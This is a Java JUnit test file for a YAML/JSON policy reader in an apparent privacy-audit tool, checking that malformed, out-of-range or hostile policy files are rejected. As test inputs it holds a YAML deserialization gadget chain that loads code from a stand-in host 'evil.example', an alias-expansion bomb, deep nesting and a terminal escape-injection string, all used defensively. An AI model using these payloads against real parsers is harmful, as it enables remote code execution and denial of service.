package io.github.miaudit.report.output;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.miaudit.io.InvalidFileException;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PolicyTest {

    private static final String FIGURES = "auc, auc-upper-bound, tpr, tpr-upper-bound, patient-auc-upper-bound, patient-tpr-upper-bound,"
            + " patients-exposed,"
            + " patients-exposed-upper-bound, empirical-leakage, epsilon-lower-bound, excluded-sentences, overlapping-sentences, validity,"
            + " worst-stratum-auc-upper-bound, identifier-exposure-upper-bound, identifiers-first-share, patients-exposed-by-identifiers";

    @TempDir
    private Path folder;
    private Path file;

    @BeforeEach
    void name() {
        file = folder.resolve("policy.yaml");
    }

    private Policy read(String yaml) throws IOException {
        return Policy.read(Files.writeString(file, yaml));
    }

    /** What the message says after the file's name. */
    private String refused(String yaml) throws IOException {
        Files.writeString(file, yaml);
        return refused();
    }

    private String refused() {
        String message = assertThrows(InvalidFileException.class, () -> Policy.read(file)).getMessage();
        assertTrue(message.startsWith(file + ":"), message);
        return message.substring(file.toString().length() + 1);
    }

    @Test
    void readsEveryFigure() throws IOException {
        String limits = Arrays.stream(Figure.values()).map(figure -> "  - figure: " + figure.label() + "\n"
                + (figure.isAtARate() ? "    fpr: 1e-2\n" : "")
                + (figure == Figure.VALIDITY ? "    at-least: SHIFTED\n" : "    at-most: 1\n")).collect(Collectors.joining());
        PolicyOutcome outcome = read("# ours\nagainst: non_members\nlimits:\n" + limits).check(new EditedAudit().document(), "d1ce57");
        int ofEach = (int) Arrays.stream(Figure.values()).filter(Figure::isOfAnAttack).count() - 1; // epsilon is of the first attack
        assertEquals(2 * ofEach + Figure.values().length - ofEach, outcome.checks().size());
        assertEquals(FIGURES, Figure.labels());
    }

    @Test
    void readsJsonAndMarkedFilesToo() throws IOException {
        Policy policy = read(
                "\uFEFF{\"against\": \"externals\", \"limits\": [{\"figure\": \"auc\", \"attack\": \"loss\", \"at-most\": 0.6}]}");
        assertEquals("auc of loss against externals is at most 0.6",
                policy.check(new EditedAudit().document(), "d1ce57").checks().get(0).limit());
    }

    @Test
    void namesFilesThatAreNoPolicies() throws IOException {
        assertEquals(" does not exist", refused());
        assertEquals(" is empty; a policy has the key limits", refused("# nothing\n"));
        assertEquals("1: a policy has keys and values; known keys are against, limits", refused("- figure: auc\n"));
        assertEquals(" has no key limits; add it, with one limit or more", refused("against: externals\n"));
        assertEquals("2: limits is no list; start each limit with a dash, such as - figure: auc", refused("limits:\n  figure: auc\n"));
        assertEquals("1: limits is no list; start each limit with a dash, such as - figure: auc", refused("limits:\n"));
        assertEquals("1: limits is empty; at least one limit is needed", refused("limits: []\n"));
        assertEquals("2: a limit has keys and values; known keys are figure, attack, fpr, at-most, at-least",
                refused("limits:\n  - auc\n"));
        assertEquals("2: key limit is unknown; known are against, limits; did you mean limits?", refused("limits: []\nlimit: []\n"));
        assertEquals("1: against is members; it must be non_members or externals", refused("against: members\nlimits: []\n"));
        Files.write(file, new byte[] {'a', (byte) 0xFF});
        assertEquals(" is not UTF-8; convert it to UTF-8 first", refused());
        Files.delete(file);
        Files.createDirectory(file);
        assertFalse(refused().isEmpty());
    }

    @Test
    void namesLinesThatAreNoYaml() throws IOException {
        assertEquals("3: is not valid YAML 1.2: mapping values are not allowed here",
                refused("limits:\n  - figure: auc\n    at-most: 1: 2\n"));
        assertEquals("2: is not valid YAML 1.2: expected the node content, but found '<stream end>'", refused("limits: [\n"));
        assertEquals("2: has the character U+0000, which YAML forbids; remove it", refused("limits:\n  - figure: \0\n"));
        assertEquals("2: starts a second document; a policy is one", refused("limits: []\n---\nlimits: []\n"));
    }

    @Test
    void namesLimitsThatAreNone() throws IOException {
        assertEquals("2: this limit has no figure; known are " + FIGURES, refused("limits:\n  - at-most: 1\n"));
        assertEquals("2: figure accuracy is unknown; known are " + FIGURES, refused("limits:\n  - figure: accuracy\n    at-most: 1\n"));
        assertEquals("3: key at-mots is unknown; known are figure, attack, fpr, at-most, at-least; did you mean at-most?",
                refused("limits:\n  - figure: auc\n    at-mots: 1\n"));
        assertEquals("4: key fpr is there already; leave one out",
                refused("limits:\n  - figure: tpr\n    fpr: 0.1\n    fpr: 0.01\n    at-most: 1\n"));
        assertEquals("3: key limits is there already; leave one out", refused("limits:\n  - {figure: auc, at-most: 1}\nlimits: []\n"));
        assertEquals("2: figure auc needs the key at-most, such as at-most: 0.6", refused("limits:\n  - figure: auc\n"));
        assertEquals("2: figure tpr needs the key fpr, such as fpr: 0.01", refused("limits:\n  - figure: tpr\n    at-most: 0.1\n"));
        assertEquals("2: figure validity needs the key at-least, such as at-least: VALID", refused("limits:\n  - figure: validity\n"));
        assertEquals("3: figure auc takes no fpr; leave it out", refused("limits:\n  - figure: auc\n    fpr: 0.1\n    at-most: 1\n"));
        assertEquals("3: figure validity takes no attack; leave it out",
                refused("limits:\n  - figure: validity\n    attack: loss\n    at-least: VALID\n"));
        assertEquals("3: figure validity takes no at-most; say at-least", refused("limits:\n  - figure: validity\n    at-most: VALID\n"));
        assertEquals("3: figure auc takes no at-least; say at-most", refused("limits:\n  - figure: auc\n    at-least: 0.5\n"));
    }

    @Test
    void namesValuesThatAreOutOfBounds() throws IOException {
        assertEquals("3: at-most is .nan; it must be a number such as 0.02, without quotes", refused(auc(".nan")));
        assertEquals("3: at-most is .inf; it must be a number such as 0.02, without quotes", refused(auc(".inf")));
        assertEquals("3: at-most is NaN; it must be a number such as 0.02, without quotes", refused(auc("NaN")));
        assertEquals("3: at-most is 0.6; it must be a number such as 0.02, without quotes", refused(auc("\"0.6\"")));
        assertEquals("3: at-most is 1d; it must be a number such as 0.02, without quotes", refused(auc("1d")));
        assertEquals("3: at-most is 2 %; it must be a number such as 0.02, without quotes", refused(auc("2 %")));
        assertEquals("3: at-most is -0.1; it must lie in [0, 1]", refused(auc("-0.1")));
        assertEquals("3: at-most is 60; it must lie in [0, 1]", refused(auc("60")));
        assertEquals("3: at-most is empty; give it a value, or leave it out", refused(auc("")));
        assertEquals("3: at-most is a list; it must be one value", refused(auc("[0.6]")));
        assertEquals("3: at-most is a mapping; it must be one value", refused(auc("{a: 1}")));
        assertEquals("3: fpr is 1.5; it must lie in [0, 1]", refused("limits:\n  - figure: tpr\n    fpr: 1.5\n    at-most: 1\n"));
        assertEquals("3: at-most is -1; it must be at least 0, and finite",
                refused("limits:\n  - figure: excluded-sentences\n    at-most: -1\n"));
        assertEquals("3: at-most is 1e999; it must be at least 0, and finite",
                refused("limits:\n  - figure: empirical-leakage\n    at-most: 1e999\n"));
        assertEquals("3: at-least is valid; it must be VALID, SHIFTED, UNDECIDED, NOT_INTERPRETABLE or NOT_CHECKED",
                refused("limits:\n  - figure: validity\n    at-least: valid\n"));
        assertEquals("3: attack is empty; give it a value, or leave it out",
                refused("limits:\n  - figure: auc\n    attack:\n    at-most: 1\n"));
    }

    private static String auc(String most) {
        return "limits:\n  - figure: auc\n    at-most: " + most + "\n";
    }

    @Test
    void makesNothingOfTagsAnchorsAndAliases() throws IOException {
        assertEquals("2: has the tag tag:yaml.org,2002:javax.script.ScriptEngineManager; leave it out",
                refused("limits:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://evil.example\"]]]]\n"));
        assertEquals("3: has the tag tag:yaml.org,2002:float; leave it out", refused(auc("!!float 1")));
        assertEquals("2: has the anchor &a; leave it out", refused("limits:\n  - &a {figure: auc, at-most: 1}\n  - *a\n"));
        assertEquals("1: has the alias *a; write out what it stands for", refused("limits: *a\n"));
        assertEquals("1: has the anchor &a; leave it out", refused("a: &a [x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]\n"));
    }

    @Test
    void isNotOverwhelmed() throws IOException {
        assertEquals(" is larger than 65536 bytes; a policy is a few lines of YAML", refused("limits:\n" + "# so\n".repeat(20_000)));
        assertEquals("1: is nested too deeply; a limit's values are texts or numbers", refused("[".repeat(60_000)));
        String message = refused("limits:\n  - figure: " + "x".repeat(10_000) + "\n");
        assertTrue(message.length() < 500, message);
        assertEquals(" is not UTF-8; convert it to UTF-8 first", refusedBytes("limits: é".getBytes(StandardCharsets.ISO_8859_1)));
    }

    private String refusedBytes(byte[] content) throws IOException {
        Files.write(file, content);
        return refused();
    }

    @Test
    void quotesNoControlCharacters() throws IOException {
        assertEquals("2: figure a\uFFFD[31m b is unknown; known are " + FIGURES, refused("limits:\n  - figure: \"a\\e[31m\\nb\"\n"));
    }
}
